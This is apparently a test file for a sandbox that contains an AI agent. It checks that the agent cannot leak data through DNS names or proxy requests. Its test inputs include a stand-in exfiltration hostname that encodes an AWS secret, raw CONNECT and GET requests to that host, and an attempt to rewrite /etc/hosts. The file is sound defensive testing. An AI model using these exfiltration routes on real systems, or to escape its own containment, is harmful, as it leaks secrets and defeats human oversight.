import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { attackArgv, EscapeLab } from "./escape-bottle.ts";
import type { EscapeBottle, Weakening } from "./escape-bottle.ts";

/** Names are a way out for data: no resolver may hear one from the agent. */

const lab = new EscapeLab();
let bottle: EscapeBottle;

beforeAll(async () => {
  await lab.begin();
  bottle = await lab.startBottle();
}, 900_000);
afterAll(() => lab.end());

const EMBEDDED = "127.0.0.11";
const onUplink: Weakening = ({ HostConfig }) => Object.assign(HostConfig, { NetworkMode: lab.uplink });
const hostResolvers = [...readFileSync("/etc/resolv.conf", "utf8").matchAll(/^nameserver\s+([\d.]+)$/gm)].map(
  ([, address]) => address ?? "",
);
const dataInAName = "aws-secret-akia1234567890.exfiltration.example";

type Answers = Readonly<Record<string, string>>;

describe("names", () => {
  it("are answered by nobody: not libc, the engine's resolver, the host's, or a public one", async () => {
    const servers = [EMBEDDED, "127.0.0.1", "127.0.0.53", ...hostResolvers, "8.8.8.8"];
    for (const name of ["example.com", dataInAName]) {
      const answers = (await bottle.attack("dns", name, servers)) as Answers;
      expect(answers.libc).toMatch(/^gai/);
      expect(Object.values(answers)).not.toContain("answered");
      expect(Object.values(answers)).not.toContain("timeout");
    }
  });

  /** Guarded by the missing network: on any network of the engine its resolver listens inside the sandbox. */
  it("would reach the engine's resolver from a sandbox with a network", async () => {
    const argv = attackArgv("dns", bottle.name("sidecars"), [EMBEDDED]);
    expect((await lab.attackWeakened(bottle, "agent", onUplink, argv)) as Answers).toMatchObject({
      [EMBEDDED]: "answered",
    });
  });

  /** Guarded by `Dns: 127.0.0.1` of the airlock, whose resolv.conf the agent sees. */
  it("of the host's resolvers are not told", async () => {
    const read = ["python3", "-c", "import json;print(json.dumps(open('/etc/resolv.conf').read()))"];
    expect(await bottle.run("agent", read)).toMatch(/^nameserver 127\.0\.0\.1$/m);

    const withoutDns: Weakening = ({ HostConfig }) =>
      Object.assign(HostConfig, { Dns: [], ReadonlyRootfs: false });
    const shown = await lab.attackWeakened(bottle, "airlock", withoutDns, read);
    for (const address of hostResolvers.filter((one) => !one.startsWith("127.")))
      expect(shown).toContain(address);
  });

  it("of the link are known, and the agent cannot change them", async () => {
    const { output } = await bottle.output("agent", [
      ...["sh", "-c", "getent hosts egress git-gate supervise; echo 1.2.3.4 egress >> /etc/hosts"],
    ]);
    expect(output.match(/^127\.0\.0\.1\s/gm)).toHaveLength(3);
    expect(output).toMatch(/Permission denied/);
  });
});

describe("names that carry data, through the proxy", () => {
  it("are refused before anybody resolves them", async () => {
    const attempts = [
      [9099, `CONNECT ${dataInAName}:443 HTTP/1.1\r\nHost: ${dataInAName}:443\r\n\r\n`],
      [9099, `GET http://${dataInAName}/ HTTP/1.1\r\nHost: ${dataInAName}\r\nConnection: close\r\n\r\n`],
    ];
    const answers = (await bottle.attack("speak", attempts)) as string[];

    for (const answer of answers) expect(answer).toMatch(/^HTTP\/1\.1 403 /);
  });
});
